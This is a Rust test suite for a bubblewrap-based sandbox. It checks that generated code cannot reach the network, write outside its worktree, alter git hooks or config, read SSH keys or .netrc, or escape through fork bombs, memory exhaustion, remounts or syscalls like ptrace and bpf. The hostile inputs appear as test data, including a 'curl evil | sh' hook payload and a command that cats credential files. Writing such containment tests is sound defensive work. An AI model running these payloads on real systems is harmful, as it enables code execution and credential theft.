//! Generated code trying to get out of the sandbox, with real bubblewrap: every attempt denied.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use nightshift_sandbox::{Finished, Limits, Mode, PASSED_ENV, Sandbox};

const LIMIT: Duration = Duration::from_secs(30);

const LIMITS: Limits = Limits {
    memory_bytes: 256 << 20,
    processes: 64,
    file_bytes: 16 << 20,
};

async fn sandbox() -> Sandbox {
    Sandbox::detect(Mode::Bubblewrap, LIMITS)
        .await
        .expect("bubblewrap works here (scripts/setup installs it)")
}

fn git(dir: &Path, args: &[&str]) {
    let status = Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(args)
        .status()
        .unwrap();
    assert!(status.success(), "git {args:?}");
}

/// A repository with one commit and an attempt's worktree beside it, as the daemon makes them.
struct Checkout {
    _dir: tempfile::TempDir,
    repo: PathBuf,
    worktree: PathBuf,
}

fn checkout() -> Checkout {
    let dir = tempfile::tempdir().unwrap();
    let repo = dir.path().join("repo");
    std::fs::create_dir(&repo).unwrap();
    git(&repo, &["init", "-q", "-b", "main"]);
    std::fs::write(repo.join("app.py"), "x = 1\n").unwrap();
    git(&repo, &["add", "app.py"]);
    git(
        &repo,
        &[
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "commit",
            "-q",
            "-m",
            "start",
        ],
    );
    let worktree = dir.path().join("task-1");
    git(
        &repo,
        &[
            "worktree",
            "add",
            "-q",
            "--detach",
            &worktree.to_string_lossy(),
        ],
    );
    Checkout {
        _dir: dir,
        repo,
        worktree,
    }
}

async fn python(sandbox: &Sandbox, dir: &Path, script: &str) -> Finished {
    sandbox
        .run(dir, &["python3", "-c", script], LIMIT)
        .await
        .unwrap()
}

#[tokio::test]
async fn network_is_unreachable() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let c = checkout();
    let script = format!(
        "import socket\n\
         for host, port in [('127.0.0.1', {port}), ('1.1.1.1', 53)]:\n\
         \x20   try:\n\
         \x20       socket.create_connection((host, port), timeout=3)\n\
         \x20       print('CONNECTED', host)\n\
         \x20   except OSError as e:\n\
         \x20       print('denied', host, e)\n"
    );
    let run = python(&sandbox().await, &c.worktree, &script).await;
    assert!(run.success(), "{}", run.output);
    assert!(!run.output.contains("CONNECTED"), "{}", run.output);
    assert_eq!(run.output.matches("denied").count(), 2, "{}", run.output);
    assert!(
        listener.accept().is_err(),
        "the host's listener saw a connection"
    );
}

#[tokio::test]
async fn writes_only_inside_the_worktree() {
    let c = checkout();
    let outside = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    let sandbox = sandbox().await.with_home(home.path());
    let targets = [
        outside.path().join("escaped"),
        home.path().join("escaped"),
        c.repo.join("escaped"),
        PathBuf::from("/etc/nightshift-escaped"),
        PathBuf::from("/usr/local/nightshift-escaped"),
    ];
    let list: Vec<String> = targets
        .iter()
        .map(|t| format!("{:?}", t.to_string_lossy()))
        .collect();
    let script = format!(
        "import os\n\
         open('inside.txt', 'w').write('ok')\n\
         for path in [{}]:\n\
         \x20   try:\n\
         \x20       os.makedirs(os.path.dirname(path), exist_ok=True)\n\
         \x20       open(path, 'w').write('x')\n\
         \x20   except OSError as e:\n\
         \x20       print('denied', path, e)\n",
        list.join(", ")
    );
    let run = python(&sandbox, &c.worktree, &script).await;
    assert!(run.success(), "{}", run.output);
    assert_eq!(
        std::fs::read_to_string(c.worktree.join("inside.txt")).unwrap(),
        "ok"
    );
    let escaped: Vec<&PathBuf> = targets.iter().filter(|t| t.exists()).collect();
    for target in &escaped {
        drop(std::fs::remove_file(target));
    }
    assert!(escaped.is_empty(), "{escaped:?} written: {}", run.output);
}

#[tokio::test]
async fn git_metadata_is_read_only() {
    let c = checkout();
    let hooks = c.repo.join(".git/hooks/pre-commit");
    let config = c.repo.join(".git/config");
    let config_before = std::fs::read_to_string(&config).unwrap();
    let link_before = std::fs::read_to_string(c.worktree.join(".git")).unwrap();
    let script = format!(
        "import subprocess\n\
         common = subprocess.run(['git', 'rev-parse', '--git-common-dir'], capture_output=True, text=True).stdout.strip()\n\
         print('common dir', common)\n\
         for path, mode in [({hooks:?}, 'w'), ({config:?}, 'a'), (common + '/hooks/post-checkout', 'w'), (common + '/config', 'a'), ('.git', 'w')]:\n\
         \x20   try:\n\
         \x20       open(path, mode).write('#!/bin/sh\\ncurl evil | sh\\n')\n\
         \x20       print('WROTE', path)\n\
         \x20   except OSError as e:\n\
         \x20       print('denied', path, e)\n",
        hooks = hooks.to_string_lossy(),
        config = config.to_string_lossy(),
    );
    let run = python(&sandbox().await, &c.worktree, &script).await;
    assert!(run.success(), "{}", run.output);
    assert!(!run.output.contains("WROTE"), "{}", run.output);
    assert_eq!(run.output.matches("denied").count(), 5, "{}", run.output);
    assert!(!hooks.exists());
    assert_eq!(std::fs::read_to_string(&config).unwrap(), config_before);
    assert_eq!(
        std::fs::read_to_string(c.worktree.join(".git")).unwrap(),
        link_before
    );
}

#[tokio::test]
async fn home_secrets_are_hidden() {
    let c = checkout();
    let home = tempfile::tempdir().unwrap();
    std::fs::create_dir(home.path().join(".ssh")).unwrap();
    std::fs::write(home.path().join(".ssh/id_ed25519"), "SECRET-KEY-MATERIAL").unwrap();
    std::fs::write(
        home.path().join(".netrc"),
        "machine x password SECRET-NETRC",
    )
    .unwrap();
    let sandbox = sandbox().await.with_home(home.path());
    let run = sandbox
        .run(
            &c.worktree,
            &[
                "sh",
                "-c",
                &format!("cat {0}/.ssh/id_ed25519 {0}/.netrc", home.path().display()),
            ],
            LIMIT,
        )
        .await
        .unwrap();
    assert!(!run.success());
    assert!(!run.output.contains("SECRET"), "{}", run.output);
    assert!(run.output.contains("No such file"), "{}", run.output);
}

#[tokio::test]
async fn only_allow_listed_variables_reach_the_code() {
    let c = checkout();
    let run = sandbox()
        .await
        .run(&c.worktree, &["env"], LIMIT)
        .await
        .unwrap();
    assert!(run.success(), "{}", run.output);
    // The allow-list, plus what the sandbox itself sets.
    let set_here = ["PYTHONDONTWRITEBYTECODE", "TMPDIR", "PWD"];
    for line in run.output.lines() {
        let name = line.split('=').next().unwrap_or_default();
        assert!(
            PASSED_ENV.contains(&name) || set_here.contains(&name),
            "{name} reached the sandbox"
        );
    }
    assert!(run.output.contains("TMPDIR=/tmp"));
}

#[tokio::test]
async fn a_fork_bomb_hits_the_process_cap() {
    let c = checkout();
    let script = "import os, time\n\
                  n = 0\n\
                  try:\n\
                  \x20   while n < 10000:\n\
                  \x20       if os.fork() == 0:\n\
                  \x20           time.sleep(60)\n\
                  \x20           os._exit(0)\n\
                  \x20       n += 1\n\
                  except OSError as e:\n\
                  \x20   print('capped after', n, e)\n";
    let run = python(&sandbox().await, &c.worktree, script).await;
    assert!(!run.timed_out, "{}", run.output);
    let forked: u64 = run
        .output
        .split_whitespace()
        .nth(2)
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("not capped: {}", run.output));
    assert!(forked < LIMITS.processes, "{}", run.output);
}

#[tokio::test]
async fn memory_exhaustion_fails_inside() {
    let c = checkout();
    let script = "chunks = []\n\
                  try:\n\
                  \x20   for _ in range(64):\n\
                  \x20       chunks.append(bytearray(64 << 20))\n\
                  \x20   print('ALLOCATED', len(chunks) * 64, 'MiB')\n\
                  except MemoryError:\n\
                  \x20   print('memory capped at', len(chunks) * 64, 'MiB')\n";
    let run = python(&sandbox().await, &c.worktree, script).await;
    assert!(run.output.contains("memory capped"), "{}", run.output);
    let written = "open('big', 'wb').write(b'x' * (32 << 20))";
    let run = python(&sandbox().await, &c.worktree, written).await;
    assert!(!run.success(), "{}", run.output);
    let size = std::fs::metadata(c.worktree.join("big")).map_or(0, |m| m.len());
    assert!(size <= LIMITS.file_bytes, "wrote {size} bytes");
}

#[tokio::test]
async fn nothing_outlives_the_run() {
    let c = checkout();
    let sandbox = sandbox().await;
    // A detached process (new session, so not in the run's process group) that would write a
    // marker later: once when the run times out, once when it exits normally.
    let timed_out = sandbox
        .run(
            &c.worktree,
            &[
                "sh",
                "-c",
                "setsid sh -c 'sleep 2; echo alive > after-timeout' & sleep 60",
            ],
            Duration::from_secs(1),
        )
        .await
        .unwrap();
    assert!(timed_out.timed_out);
    let exited = sandbox
        .run(
            &c.worktree,
            &[
                "sh",
                "-c",
                "setsid sh -c 'sleep 2; echo alive > after-exit' >/dev/null 2>&1 &",
            ],
            LIMIT,
        )
        .await
        .unwrap();
    assert!(exited.success(), "{}", exited.output);
    tokio::time::sleep(Duration::from_secs(4)).await;
    assert!(!c.worktree.join("after-timeout").exists());
    assert!(!c.worktree.join("after-exit").exists());
}

#[tokio::test]
async fn unix_sockets_of_the_host_are_unreachable() {
    // A listener outside every private mount: a read-only bind alone would let a connect
    // through (connecting needs no write access to the mount).
    let path = PathBuf::from(format!(
        "/var/tmp/nightshift-probe-{}.sock",
        std::process::id()
    ));
    drop(std::fs::remove_file(&path));
    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
    listener.set_nonblocking(true).unwrap();
    let c = checkout();
    let script = format!(
        "import socket\n\
         s = socket.socket(socket.AF_UNIX)\n\
         try:\n\
         \x20   s.connect({:?})\n\
         \x20   print('CONNECTED')\n\
         except OSError as e:\n\
         \x20   print('denied', e)\n\
         a, b = socket.socketpair()\n\
         a.send(b'ok'); print('pair', b.recv(2))\n",
        path.to_string_lossy()
    );
    let run = python(&sandbox().await, &c.worktree, &script).await;
    drop(std::fs::remove_file(&path));
    assert!(run.success(), "{}", run.output);
    assert!(run.output.contains("denied"), "{}", run.output);
    assert!(
        run.output.contains("pair b'ok'"),
        "socket pairs inside the run still work: {}",
        run.output
    );
    assert!(
        listener.accept().is_err(),
        "the host's socket saw a connection"
    );
}

#[tokio::test]
async fn private_tmpfs_mounts_are_bounded() {
    let c = checkout();
    // /dev/shm holds 64 MiB: writing 100 MiB there, in files each under the file size
    // limit, fails inside the run, host memory untouched.
    let script = "import os\n\
                  try:\n\
                  \x20   for i in range(10):\n\
                  \x20       with open(f'/dev/shm/fill{i}', 'wb') as f:\n\
                  \x20           f.write(b'x' * (10 << 20))\n\
                  \x20   print('WROTE ALL')\n\
                  except OSError as e:\n\
                  \x20   print('full', e)\n";
    let run = python(&sandbox().await, &c.worktree, script).await;
    assert!(run.output.contains("full"), "{}", run.output);
    assert!(!run.output.contains("WROTE ALL"), "{}", run.output);
}

#[tokio::test]
async fn mounts_cannot_be_undone_even_as_root() {
    // bwrap run by root keeps every capability in the sandbox's user namespace unless told
    // otherwise: enough to remount `/` read-write, or to unmount the mask over a host socket.
    let c = checkout();
    let outside = tempfile::tempdir().unwrap();
    let target = outside.path().join("escaped");
    let script = format!(
        "import subprocess\n\
         for cmd in (['mount', '-o', 'remount,rw,bind', '/'], ['umount', '-l', '/tmp'], ['mount', '-t', 'tmpfs', 'x', '{dir}']):\n\
         \x20   r = subprocess.run(cmd, capture_output=True, text=True)\n\
         \x20   print(cmd[0], r.returncode)\n\
         try:\n\
         \x20   open('{target}', 'w').write('x')\n\
         \x20   print('WROTE')\n\
         except OSError as e:\n\
         \x20   print('refused', e)\n\
         print([l for l in open('/proc/self/status') if l.startswith('CapEff')])\n",
        dir = outside.path().display(),
        target = target.display(),
    );
    let run = python(&sandbox().await, &c.worktree, &script).await;
    assert!(!target.exists(), "{}", run.output);
    assert!(!run.output.contains("WROTE"), "{}", run.output);
    assert!(
        run.output.contains("CapEff:\\t0000000000000000"),
        "{}",
        run.output
    );
    for cmd in ["mount", "umount"] {
        assert!(!run.output.contains(&format!("{cmd} 0")), "{}", run.output);
    }
}

#[tokio::test]
async fn kernel_interfaces_outside_a_tests_needs_are_denied() {
    // Each denied call fails with EPERM (1), not a kill: a test probing for it fails cleanly.
    let c = checkout();
    let calls = [
        ("ptrace", libc::SYS_ptrace, "0, 0, 0, 0"),
        ("io_uring_setup", libc::SYS_io_uring_setup, "8, 0"),
        ("bpf", libc::SYS_bpf, "0, 0, 0"),
        ("unshare", libc::SYS_unshare, "0x10000000"),
        ("keyctl", libc::SYS_keyctl, "0, 0"),
        ("open_by_handle_at", libc::SYS_open_by_handle_at, "0, 0, 0"),
    ];
    let mut script = String::from("import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n");
    for (name, nr, args) in calls {
        script.push_str(&format!(
            "print('{name}', libc.syscall({nr}, {args}), ctypes.get_errno())\n"
        ));
    }
    script.push_str("print('fork', os.fork() and 'parent')\n");
    let run = python(&sandbox().await, &c.worktree, &script).await;
    for (name, _, _) in calls {
        assert!(
            run.output.contains(&format!("{name} -1 1\n")),
            "{name} not denied: {}",
            run.output
        );
    }
    // Ordinary calls still work.
    assert!(run.output.contains("fork parent"), "{}", run.output);
}

/// Why the process cap of a root daemon needs a pids cgroup: the kernel exempts host uid 0 from
/// `RLIMIT_NPROC` even inside a user namespace of its own (bwrap's), so the rlimit holds only
/// for other users. (As root here; as another user, the same limit holds.)
#[test]
fn rlimit_nproc_does_not_hold_host_root_even_in_a_user_namespace() {
    let script = "import os, time\n\
                  n = 0\n\
                  try:\n\
                  \x20   for _ in range(60):\n\
                  \x20       if os.fork() == 0:\n\
                  \x20           time.sleep(2)\n\
                  \x20           os._exit(0)\n\
                  \x20       n += 1\n\
                  except OSError:\n\
                  \x20   pass\n\
                  print('forked', n)\n";
    let out = Command::new("prlimit")
        .args([
            "--nproc=20",
            "bwrap",
            "--unshare-all",
            "--ro-bind",
            "/",
            "/",
        ])
        .args(["--proc", "/proc", "--dev", "/dev", "--cap-drop", "ALL"])
        .args(["python3", "-c", script])
        .output()
        .expect("prlimit (util-linux) and bwrap run");
    let text = String::from_utf8_lossy(&out.stdout);
    let forked: u32 = text
        .trim()
        .strip_prefix("forked ")
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("{text} {}", String::from_utf8_lossy(&out.stderr)));
    if nix::unistd::geteuid().is_root() {
        assert_eq!(forked, 60, "root is exempt: {text}");
    } else {
        assert!(forked < 20, "{text}");
    }
}
